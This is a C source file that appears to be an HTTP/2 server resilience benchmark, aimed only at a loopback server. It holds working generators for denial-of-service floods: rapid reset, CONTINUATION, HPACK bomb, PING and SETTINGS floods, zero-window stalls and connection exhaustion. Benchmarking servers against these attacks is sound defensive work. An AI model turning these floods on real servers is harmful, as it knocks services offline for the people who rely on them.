#include "attacks.h"

#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <sched.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base/fd.h"
#include "base/macros.h"

enum { DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING = 6, WINDOW_UPDATE = 8, CONTINUATION };
enum {
    END_STREAM = 1,
    END_HEADERS = 4,
    FRAME_HEAD = 9,
    UNIT_FRAMES = 500,
    HELD = 1000,
    STREAMS = 500
};
enum { BOMB_FIELD = 2900, BOMB_FIELDS = 30, STEP = 64 * 1024, WAIT_MS = 100 };

static void put(box_buf *b, const void *data, size_t len)
{
    box_error err;
    BOX_IGNORE(box_buf_add(b, data, len, &err)); /* a full unit is as good */
}

static void frame(box_buf *b, uint8_t type, uint8_t flags, uint32_t stream, const void *data,
                  size_t len)
{
    const uint8_t head[FRAME_HEAD] = {(uint8_t)(len >> 16),
                                      (uint8_t)(len >> 8),
                                      (uint8_t)len,
                                      type,
                                      flags,
                                      (uint8_t)(stream >> 24),
                                      (uint8_t)(stream >> 16),
                                      (uint8_t)(stream >> 8),
                                      (uint8_t)stream};
    put(b, head, sizeof head);
    put(b, data, len);
}

#define FRAME(b, type, flags, stream, literal)                                                     \
    frame((b), (type), (flags), (stream), (literal), sizeof(literal) - 1)

/* HPACK without Huffman or table: POST https, a path, no token. */
#define CALL(path)                                                                                 \
    "\x83\x87\x04" path "\x01\x09localhost"                                                        \
    "\x0f\x10\x10"                                                                                 \
    "application/grpc"
#define CHAT   CALL("\x26/boxtest.v1.TestService/FullDuplexCall")
#define EXPAND CALL("\x1f/box.test.v1.EchoService/Expand")
/* ExpandRequest { count: 2^30, size: 16384 } with its prefix. */
#define ENDLESS "\0\0\0\0\x0a\x08\x80\x80\x80\x80\x04\x10\x80\x80\x01"

static uint32_t next_stream(attacker *a)
{
    uint32_t stream = a->next_stream;
    a->next_stream += 2;
    return stream;
}

static void preface(attacker *a, box_buf *out, const char *settings, size_t len)
{
    static const char magic[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    if (a->prepared)
        return;
    a->prepared = true;
    a->next_stream = 1;
    put(out, magic, sizeof magic - 1);
    frame(out, SETTINGS, 0, 0, settings, len);
}

static void make_rapid_reset(attacker *a, box_buf *out)
{
    preface(a, out, "", 0);
    for (int i = 0; i < UNIT_FRAMES / 2; i++) {
        uint32_t stream = next_stream(a);
        FRAME(out, HEADERS, END_HEADERS, stream, CHAT);
        FRAME(out, RST_STREAM, 0, stream, "\0\0\0\x08");
    }
}

static void make_provoked_reset(attacker *a, box_buf *out)
{
    preface(a, out, "", 0);
    for (int i = 0; i < UNIT_FRAMES; i++)
        FRAME(out, HEADERS, END_HEADERS | END_STREAM, next_stream(a), "\x83");
}

static void make_settings(attacker *a, box_buf *out)
{
    preface(a, out, "", 0);
    for (int i = 0; i < UNIT_FRAMES; i++)
        FRAME(out, SETTINGS, 0, 0, "\0\4\0\1\0\0");
}

static void make_ping(attacker *a, box_buf *out)
{
    preface(a, out, "", 0);
    for (int i = 0; i < UNIT_FRAMES; i++)
        FRAME(out, PING, 0, 0, "12345678");
}

static void make_priority(attacker *a, box_buf *out)
{
    preface(a, out, "", 0);
    for (int i = 0; i < UNIT_FRAMES; i++)
        FRAME(out, PRIORITY, 0, 3, "\0\0\0\1\7");
}

static void make_window_update(attacker *a, box_buf *out)
{
    preface(a, out, "", 0);
    for (int i = 0; i < UNIT_FRAMES; i++)
        FRAME(out, WINDOW_UPDATE, 0, 0, "\0\0\0\1");
}

/* On a stream that stays open: a body whose first message never comes. */
static void open_stream(attacker *a, box_buf *out)
{
    bool first = !a->prepared;
    preface(a, out, "", 0);
    if (first)
        FRAME(out, HEADERS, END_HEADERS, 1, CHAT);
}

static void make_empty_data(attacker *a, box_buf *out)
{
    open_stream(a, out);
    for (int i = 0; i < UNIT_FRAMES; i++)
        FRAME(out, DATA, 0, 1, "");
}

static void make_dribble(attacker *a, box_buf *out)
{
    open_stream(a, out);
    for (int i = 0; i < UNIT_FRAMES; i++)
        FRAME(out, DATA, 0, 1, "\0");
}

static void make_continuation(attacker *a, box_buf *out)
{
    bool first = !a->prepared;
    preface(a, out, "", 0);
    if (first)
        FRAME(out, HEADERS, 0, 1, "\x83");
    for (int i = 0; i < UNIT_FRAMES; i++)
        FRAME(out, CONTINUATION, 0, 1, "");
}

/* Each block stands for 87 KiB, less than what ends the connection at once. */
static void make_hpack_bomb(attacker *a, box_buf *out)
{
    static const uint8_t name[] = {0x40, 1, 'b', 0x7f, 0xd5, 0x15}; /* a value of 2900 bytes */
    uint8_t value[BOMB_FIELD], bomb[BOMB_FIELDS];
    bool first = !a->prepared;
    memset(value, 'z', sizeof value);
    memset(bomb, 0xbe, sizeof bomb);
    preface(a, out, "", 0);
    for (int i = 0; i < UNIT_FRAMES / 2; i++) {
        BOX_AUTO(box_buf_done) box_buf block = {.max_bytes = STEP};
        put(&block, CHAT, sizeof CHAT - 1);
        if (first && i == 0) {
            put(&block, name, sizeof name);
            put(&block, value, sizeof value);
        } else {
            put(&block, bomb, sizeof bomb);
        }
        frame(out, HEADERS, END_HEADERS | END_STREAM, next_stream(a), box_buf_data(&block),
              box_buf_len(&block));
    }
}

static void expand(attacker *a, box_buf *out)
{
    for (int i = 0; i < STREAMS; i++) {
        uint32_t stream = next_stream(a);
        FRAME(out, HEADERS, END_HEADERS, stream, EXPAND);
        FRAME(out, DATA, END_STREAM, stream, ENDLESS);
    }
}

/* HTTP/2's windows wide open, TCP's shut: nothing is read. */
static void make_unread(attacker *a, box_buf *out)
{
    preface(a, out, "\0\4\x7f\xff\0\0", 6);
    FRAME(out, WINDOW_UPDATE, 0, 0, "\x7f\xfe\0\0");
    expand(a, out);
}

static void make_zero_window(attacker *a, box_buf *out)
{
    preface(a, out, "\0\4\0\0\0\0", 6);
    expand(a, out);
}

const attack bench_attacks[] = {
    {.name = "rapid_reset",
     .meaning = "HEADERS and RST_STREAM",
     .make = make_rapid_reset,
     .reads = true},
    {.name = "provoked_reset",
     .meaning = "requests that must be reset",
     .make = make_provoked_reset,
     .reads = true},
    {.name = "settings", .meaning = "SETTINGS, acknowledgements unread", .make = make_settings},
    {.name = "ping", .meaning = "PING, answers read", .make = make_ping, .reads = true},
    {.name = "priority", .meaning = "PRIORITY", .make = make_priority},
    {.name = "window_update", .meaning = "WINDOW_UPDATE by 1", .make = make_window_update},
    {.name = "empty_data", .meaning = "DATA of no bytes", .make = make_empty_data, .reads = true},
    {.name = "dribble", .meaning = "DATA of one byte", .make = make_dribble, .reads = true},
    {.name = "continuation", .meaning = "a header block without end", .make = make_continuation},
    {.name = "hpack_bomb",
     .meaning = "87 KiB of headers in 90 bytes",
     .make = make_hpack_bomb,
     .reads = true},
    {.name = "unread",
     .meaning = "500 endless answers, not read",
     .make = make_unread,
     .holds = true,
     .deaf = true},
    {.name = "zero_window",
     .meaning = "500 endless answers without window",
     .make = make_zero_window,
     .holds = true},
    {.name = "handshakes", .meaning = "ClientHello, then gone", .only_hello = true},
    {.name = "connects", .meaning = "1,000 TCP connections, held", .no_tls = true},
};
const size_t bench_n_attacks = BOX_COUNT(bench_attacks);

/* --- the connection --------------------------------------------------------------------------- */

/* From an address of its own: what it loses, others keep. */
static int connect_to(const attacker *a)
{
    const struct sockaddr_in from = {.sin_family = AF_INET,
                                     .sin_addr.s_addr = htonl(INADDR_LOOPBACK + a->address)};
    struct sockaddr_in to = {.sin_family = AF_INET,
                             .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
                             .sin_port = htons((uint16_t)a->port)};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd >= 0 && (bind(fd, (const struct sockaddr *)&from, sizeof from) < 0 ||
                    connect(fd, (struct sockaddr *)&to, sizeof to) < 0))
        box_closep(&fd);
    return fd;
}

/* False when the server is gone. */
static bool send_pending(attacker *a, int fd, box_tls *t)
{
    for (box_bytes b = box_tls_pending(t); b.len > 0; b = box_tls_pending(t)) {
        struct pollfd p = {.fd = fd, .events = POLLOUT};
        if (atomic_load(&a->stop))
            return false;
        if (poll(&p, 1, WAIT_MS) == 0)
            continue;
        ssize_t n = send(fd, b.data, b.len, MSG_NOSIGNAL | MSG_DONTWAIT);
        if (n < 0 && errno != EAGAIN)
            return false;
        box_tls_consume(t, n > 0 ? (size_t)n : 0);
        a->sent_bytes += n > 0 ? (uint64_t)n : 0;
    }
    return true;
}

/* 1 bytes came, 0 none did, -1 the end. */
static int receive(int fd, box_tls *t, int wait_ms)
{
    uint8_t data[STEP];
    box_error err;
    bool closed = false;
    struct pollfd p = {.fd = fd, .events = POLLIN};
    if (poll(&p, 1, wait_ms) <= 0)
        return 0;
    ssize_t n = recv(fd, data, sizeof data, 0);
    if (n <= 0)
        return -1;
    BOX_AUTO(box_buf_done) box_buf plain = {.max_bytes = 4 * STEP};
    return box_tls_receive(t, data, (size_t)n, &plain, &closed, &err) < 0 || closed ? -1 : 1;
}

static bool shake_hands(attacker *a, int fd, box_tls *t)
{
    while (!box_tls_is_ready(t)) {
        if (!send_pending(a, fd, t) || receive(fd, t, WAIT_MS) < 0 || atomic_load(&a->stop))
            return false;
    }
    return send_pending(a, fd, t);
}

/* Sends until the server has had enough or it is told to stop; whether the former. */
static bool flood(attacker *a, int fd, box_tls *t)
{
    BOX_AUTO(box_buf_done) box_buf unit = {.max_bytes = 16 * STEP};
    box_error err;
    bool more = true;
    while (!atomic_load(&a->stop)) {
        box_buf_clear(&unit);
        if (more)
            a->what->make(a, &unit);
        more = !a->what->holds;
        if (box_tls_write(t, box_buf_data(&unit), box_buf_len(&unit), &err) < 0 ||
            !send_pending(a, fd, t))
            return !atomic_load(&a->stop);
        if (a->what->deaf) {
            (void)poll(NULL, 0, WAIT_MS);
            continue;
        }
        int rc = a->what->reads || !more ? receive(fd, t, more ? 0 : WAIT_MS) : 0;
        while (rc > 0)
            rc = receive(fd, t, 0);
        if (rc < 0)
            return true;
    }
    return false;
}

static void tls_freep(box_tls **t)
{
    box_tls_free(*t);
}

static void attack_once(attacker *a)
{
    BOX_AUTO(box_closep) int fd = connect_to(a);
    BOX_AUTO(tls_freep) box_tls *t = NULL;
    box_error err;
    if (fd < 0 || box_tls_new(a->tls, "127.0.0.1", &t, &err) < 0)
        return;
    a->connections++;
    a->prepared = false;
    if (a->what->only_hello) {
        if (send_pending(a, fd, t))
            (void)receive(fd, t, WAIT_MS); /* what it cost: the server's flight */
    } else if (shake_hands(a, fd, t)) {
        a->ended += flood(a, fd, t);
    }
}

static void hold_sockets(attacker *a)
{
    int held[HELD];
    for (int i = 0; i < HELD; i++) {
        held[i] = connect_to(a);
        a->connections += held[i] >= 0;
    }
    while (!atomic_load(&a->stop))
        (void)poll(NULL, 0, WAIT_MS);
    for (int i = 0; i < HELD; i++)
        box_closep(&held[i]);
}

void *bench_attack(void *arg)
{
    attacker *a = arg;
    const struct sched_param any = {0};
    /* It shares a processor with the honest client, whom it must not slow down by itself. */
    (void)sched_setscheduler(0, SCHED_IDLE, &any);
    while (!atomic_load(&a->stop)) {
        if (a->what->no_tls)
            hold_sockets(a);
        else
            attack_once(a);
    }
    return NULL;
}
